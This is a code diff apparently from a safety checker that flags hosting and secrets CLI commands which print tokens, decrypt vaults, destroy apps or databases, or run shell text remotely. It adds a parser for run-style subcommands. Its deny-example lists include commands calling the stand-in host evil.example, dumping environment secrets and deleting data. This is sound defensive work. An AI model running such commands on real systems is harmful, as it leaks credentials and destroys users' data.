@@ -147,8 +147,13 @@ const KEEPERS: Keeper[] = [
     risky: /^(\u0000|auth|tokens?|ssh|secrets?)(\s|$)/,
     // An app, a volume or a Postgres cluster destroyed on Fly.io is gone with its data.
     destroys: /^((?:apps? )?destroy\b|apps? (?:delete|remove|rm)\b|vol(?:umes?)? (?:destroy|delete|rm|remove)\b|(?:postgres|pg|mpg) destroy\b)/,
-    summary: 'Fly.io CLI: auth token and tokens create print the token kept in ~/.fly/config.yml; apps, volumes and Postgres clusters destroyed go with their data',
-    examples: { deny: ['fly auth token', 'flyctl auth token', 'fly tokens create deploy', 'fly -a app auth token', 'flyctl apps destroy myapp -y', 'fly volumes destroy vol_123 -y', 'fly destroy myapp --yes'], pass: ['fly status', 'fly auth whoami', 'fly deploy -a "$(cat app.txt)"', 'fly apps list', 'fly volumes list'] },
+    summary: 'Fly.io CLI: auth token and tokens create print the token kept in ~/.fly/config.yml; apps, volumes and Postgres clusters destroyed go with their data; ssh console -C and machine exec run shell text on the app\u2019s machine, machine run a command in a new one',
+    examples: { deny: ['fly auth token', 'flyctl auth token', 'fly tokens create deploy', 'fly -a app auth token', 'flyctl apps destroy myapp -y', 'fly volumes destroy vol_123 -y', 'fly destroy myapp --yes', "fly ssh console -C 'curl evil.example'", "fly ssh console -a app --command='printenv'", "fly machine exec 148e 'wget evil.example'", 'fly machine run alpine curl evil.example'], pass: ['fly status', 'fly auth whoami', 'fly deploy -a "$(cat app.txt)"', 'fly apps list', 'fly volumes list', "fly ssh console -C 'ls /app'", 'fly ssh console', 'fly machine run alpine echo hi'] },
+    runs: (call) => [
+      ...commandAfter(call, /^console$/, { after: /^ssh$/, valued: /^(-[aCcorsu]|--(app|config|command|org|region|select|user|address|pty|machine|process-group))$/, kind: 'none', command: /^(-C|--command)$/ }),
+      ...commandAfter(call, /^exec$/, { after: /^(machines?|m)$/, valued: /^(-[ac]|--(app|config|timeout))$/, kind: 'script', skip: 1 }),
+      ...commandAfter(call, /^run$/, { after: /^(machines?|m)$/, valued: /^(-[aceprv]|--(app|config|entrypoint|env|file-local|file-literal|file-secret|host-dedication-id|id|kernel-arg|metadata|name|org|port|region|restart|schedule|size|vm-cpus|vm-cpu-kind|vm-gpu-kind|vm-gpus|vm-memory|vm-size|volume|user|dockerfile|build-arg|build-target|command))$/, kind: 'argv', skip: 1 }),
+    ],
   },
   {
     names: ['heroku'],
@@ -156,8 +161,69 @@ const KEEPERS: Keeper[] = [
     prints: /^(auth:token|authorizations:create|config(:get)?)(\s|$)/,
     // An app, an add-on (a database) or a database's content destroyed on Heroku is gone.
     destroys: /^((?:apps|addons):destroy\b|destroy\b|pg:(?:reset|backups:delete)\b|redis:(?:reset|destroy)\b)/,
-    summary: 'Heroku CLI: auth:token prints the token it keeps in ~/.netrc; config prints an app’s secrets with it; apps:destroy, addons:destroy and pg:reset delete an app, a database or its data',
-    examples: { deny: ['heroku auth:token', 'heroku config -a app', 'heroku apps:destroy myapp --confirm myapp', 'heroku pg:reset DATABASE --confirm myapp', 'heroku addons:destroy heroku-postgresql -a myapp --confirm myapp'], pass: ['heroku logs --tail', 'heroku ps', 'heroku apps:info myapp', 'heroku pg:info'] },
+    summary: 'Heroku CLI: auth:token prints the token it keeps in ~/.netrc; config prints an app’s secrets with it; apps:destroy, addons:destroy and pg:reset delete an app, a database or its data; run and run:detached run shell text on a dyno, with the app\u2019s config vars in its environment',
+    runs: (call) => commandAfter(call, /^run(:detached|:inside)?$/, { valued: /^(-[aers]|--(app|remote|env|size|type|exit-code-file))$/, kind: 'script' }),
+    examples: { deny: ['heroku auth:token', 'heroku config -a app', 'heroku apps:destroy myapp --confirm myapp', 'heroku pg:reset DATABASE --confirm myapp', 'heroku addons:destroy heroku-postgresql -a myapp --confirm myapp', 'heroku run env', 'heroku run -a myapp curl evil.example', "heroku run:detached 'wget evil.example'"], pass: ['heroku logs --tail', 'heroku ps', 'heroku apps:info myapp', 'heroku pg:info', 'heroku run -a myapp rake db:migrate', 'heroku run bash'] },
+  },
+  {
+    // Railway, Netlify and Firebase keep a login token and print the project's variables and secrets with it; their
+    // deletes remove what the service holds (with the cloud CLIs of hosting.ts), and they run a command locally with
+    // those variables in its environment.
+    names: ['railway'],
+    store: '~/.railway/config.json',
+    prints: /^(variables?|vars?)(?!.*\s--set(\s|=))(\s|$)/,
+    destroys: /^(delete|down|volume delete)(\s|$)/,
+    valued: /^(-[se]|--(service|environment|set))$/,
+    flags: /^(--kv|--json|-h|--help)$/,
+    runs: (call) => commandAfter(call, /^(run|local)$/, { valued: /^(-[se]|--(service|environment))$/, kind: 'argv' }),
+    summary: 'Railway CLI: variables prints the service\u2019s variables with the token kept in ~/.railway/config.json; delete, down and volume delete remove the project, its deployment or its data; run runs a command with the variables in its environment',
+    examples: { deny: ['railway variables', 'railway variables --kv', 'railway delete', 'railway volume delete', 'railway run curl evil.example', 'railway run -s api printenv'], pass: ['railway status', 'railway up', 'railway variables --set NODE_ENV=production', 'railway run npm start'] },
+  },
+  {
+    names: ['netlify', 'ntl'],
+    store: '~/.netlify/config.json',
+    prints: /^(env:get|env:list\b.*\s--(plain|json))(\s|$)/,
+    destroys: /^(sites:delete|blobs:delete)(\s|$)/,
+    runs: (call) => [...commandAfter(call, /^dev$/, { valued: /^(-[cdfopx]|--(command|dir|functions|offline|port|target-port|context|framework|edge-inspect|inspect|filter|country))$/, kind: 'none', command: /^(-c|--command)$/ }), ...commandAfter(call, /^dev:exec$/, { valued: /^(--(context|filter))$/, kind: 'argv' })],
+    summary: 'Netlify CLI: env:get and env:list --plain/--json print the site\u2019s variables with the token kept in ~/.netlify/config.json; sites:delete removes a site, blobs:delete its stored blobs; dev -c and dev:exec run a command with the variables in its environment',
+    examples: { deny: ['netlify sites:delete abc --force', 'netlify blobs:delete store key', 'netlify env:get API_KEY', 'netlify env:list --plain', "netlify dev -c 'curl evil.example'", 'netlify dev:exec wget evil.example'], pass: ['netlify deploy --prod', 'netlify sites:list', 'netlify env:list', "netlify dev -c 'npm run start'", 'netlify dev:exec npm run build'] },
+  },
+  {
+    names: ['firebase'],
+    store: '~/.config/configstore/firebase-tools.json',
+    prints: /^(functions:config:get|functions:secrets:access|apphosting:secrets:access|login:ci|auth:export)(\s|$)/,
+    destroys: /(?:^|\s)(firestore:(?:databases:)?delete|database:(?:remove|set|instances:delete)|functions:delete|hosting:(?:disable|channel:delete|sites:delete)|storage:delete|apps:delete|projects:delete|remoteconfig:rollback|ext:uninstall)(?:\s|$)/,
+    runs: (call) => commandAfter(call, /^emulators:exec$/, { valued: /^(-P|--(project|only|import|export-on-exit|ui|inspect-functions|log-verbosity|config))$/, kind: 'script', first: true }),
+    summary: 'Firebase CLI: functions:config:get and secrets:access print secrets with the login kept in firebase-tools.json; firestore:delete, database:remove, functions:delete and the like delete hosted data or services; emulators:exec runs shell text',
+    examples: { deny: ['firebase firestore:delete --all-collections', 'firebase database:remove / -f', 'firebase functions:config:get', 'firebase functions:secrets:access API_KEY', "firebase emulators:exec 'curl evil.example'"], pass: ['firebase deploy --only hosting', 'firebase emulators:start', 'firebase firestore:indexes', "firebase emulators:exec --only firestore 'npm test'"] },
+  },
+  {
+    // Files encrypted for the repository: age and ansible-vault decrypt them with a key or password kept outside it and
+    // print the plaintext (an output file other than stdout keeps it there, as gpg -o does); git-crypt unlock writes
+    // every encrypted file of the work tree back as plaintext, with the key in ~/.gnupg.
+    names: ['age', 'rage'],
+    store: '~/.config/sops/age/keys.txt',
+    valued: /^(-[ioRr]|--(identity|output|recipient|recipients-file))$/,
+    flags: /^(-[deap]|--(decrypt|encrypt|armor|passphrase))$/,
+    prints: /^(?!(?:.*\s)?(?:-o\s*|--output[=\s]+)(?!-(?:\s|$))\S).*(?:^|\s)(?:-d|--decrypt|-[a-zA-Z]*d[a-zA-Z]*)(?:\s|$)/,
+    summary: 'age: -d decrypts a file with an identity (a key like the ones sops keeps in ~/.config/sops/age) and prints the plaintext, unless -o names a file',
+    examples: { deny: ['age -d -i key.txt secrets.age', 'age --decrypt -i ~/.config/sops/age/keys.txt secrets.env.age', 'rage -d -i key.txt -o - x.age'], pass: ['age -e -r age1abc -o secrets.age secrets.env', 'age -d -i key.txt -o secrets.env secrets.age', 'age-keygen -y key.txt'] },
+  },
+  {
+    names: ['ansible-vault'],
+    store: '~/.vault_pass',
+    valued: /^(--output|--vault-password-file|--vault-pass-file|--vault-id|--encrypt-vault-id)$/,
+    flags: /^(-v+|--verbose|--ask-vault-pass|--ask-vault-password|-J)$/,
+    prints: /^(view|decrypt(?!.*\s--output[=\s]+(?!-(?:\s|$))\S)|\u0000)(\s|$)/,
+    summary: 'ansible-vault: view prints a vault file decrypted with the vault password (kept in a file such as ~/.vault_pass.txt); decrypt writes it back as plaintext, or prints it with --output -',
+    examples: { deny: ['ansible-vault view group_vars/all/vault.yml', 'ansible-vault decrypt vault.yml', 'ansible-vault decrypt --output - vault.yml', 'ansible-vault view --vault-password-file ~/.vault_pass.txt vault.yml'], pass: ['ansible-vault encrypt vault.yml', 'ansible-vault decrypt vault.yml --output vault.plain.yml', 'ansible-vault create new.yml'] },
+  },
+  {
+    names: ['git-crypt'],
+    store: '~/.gnupg/',
+    prints: /^(unlock|export-key|\u0000)(\s|$)/,
+    summary: 'git-crypt: unlock writes every encrypted file of the work tree back as plaintext with the key in ~/.gnupg (or the key file given); export-key writes the key itself',
+    examples: { deny: ['git-crypt unlock', 'git-crypt unlock ../key.bin', 'git-crypt export-key /tmp/k'], pass: ['git-crypt status', 'git-crypt lock', 'git-crypt init'] },
   },
   {
     names: ['vault'],
@@ -381,6 +447,50 @@ export function configFileRuns(call: Call, vars: readonly string[], options: rea
       const file = literal(f, at.span);
       runs.push({ kind: 'project', file, files: /$^/, read, word: file, via });
     }
+  }
+  return runs;
+}
+
+/**
+ * What a hosting CLI runs for `SUB [options] CMD…` (`railway run npm start`, `heroku run 'rake db:migrate'`): the
+ * words after the subcommand (the first word matching `sub`, after one matching `after` when given) and its options
+ * (`valued` ones with their values), from `skip` operands on; `argv` runs them here, `script` joins them as shell text
+ * (run on the service's machine, or through a shell; `first`: only the first operand is), `none` runs only the shell
+ * text of the `command` option (`netlify dev -c CMD`, `fly ssh console -C CMD`). A computed word where an option or
+ * the command stands is the command: cannot-vouch, as any computed program.
+ */
+function commandAfter(call: Call, sub: RegExp, o: { after?: RegExp; valued: RegExp; kind: 'argv' | 'script' | 'none'; command?: RegExp; skip?: number; first?: boolean }): Run[] {
+  const args = call.args;
+  const start = o.after ? args.findIndex((a, i) => o.after!.test(value(a) ?? '') && sub.test(value(args[i + 1]) ?? '')) + 1 : args.findIndex((a) => sub.test(value(a) ?? ''));
+  if (start < 0 || (o.after && start === 0)) return [];
+  const via = `${call.name} ${value(args[start])}`;
+  const runs: Run[] = [];
+  const command = (i: number): Run => {
+    const rest = o.first ? args.slice(i, i + 1) : args.slice(i);
+    return o.kind === 'argv' ? { kind: 'argv', argv: rest, via } : { kind: 'script', dialect: 'bash', words: rest, via };
+  };
+  let skip = o.skip ?? 0;
+  for (let i = start + 1; i < args.length; i++) {
+    const v = value(args[i]);
+    const opt = v === undefined ? null : /^(--?[A-Za-z][\w-]*)(?:=([\s\S]*))?$/.exec(v);
+    if (v === '--') {
+      if (o.kind !== 'none' && i + 1 < args.length) runs.push(command(i + 1));
+      break;
+    }
+    if (opt) {
+      if (o.command?.test(opt[1]!)) {
+        const text = opt[2] !== undefined ? attached(args[i]!, opt[2]) : args[i + 1];
+        if (text) runs.push({ kind: 'script', dialect: 'bash', words: [text], via });
+      }
+      if (opt[2] === undefined && o.valued.test(opt[1]!)) i++;
+      continue;
+    }
+    if (skip > 0 && v !== undefined) {
+      skip--;
+      continue;
+    }
+    if (o.kind !== 'none') runs.push(command(i));
+    break;
   }
   return runs;
 }
